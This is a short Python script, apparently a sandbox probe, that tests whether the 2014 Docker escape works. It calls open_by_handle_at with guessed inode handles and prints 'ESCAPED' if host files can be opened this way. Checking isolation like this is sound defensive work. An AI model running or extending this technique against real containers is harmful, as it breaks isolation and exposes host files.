"""Opens files of the host by guessed handles (the 2014 escape from Docker). Stopped by no capability."""

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
for inode in (2, 96, 128, 256):
    handle = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, inode, 0))
    for folder in ("/", "/tmp", "/code", os.path.dirname(os.__file__)):
        anchor = os.open(folder, os.O_RDONLY)
        descriptor = libc.open_by_handle_at(anchor, handle, os.O_RDONLY)
        code = ctypes.get_errno()
        os.close(anchor)
        # ESTALE would mean: allowed, and only the guess was wrong.
        if descriptor >= 0 or code not in (1, 38):
            print("ESCAPED: handles are resolved:", os.strerror(code))
print("done")
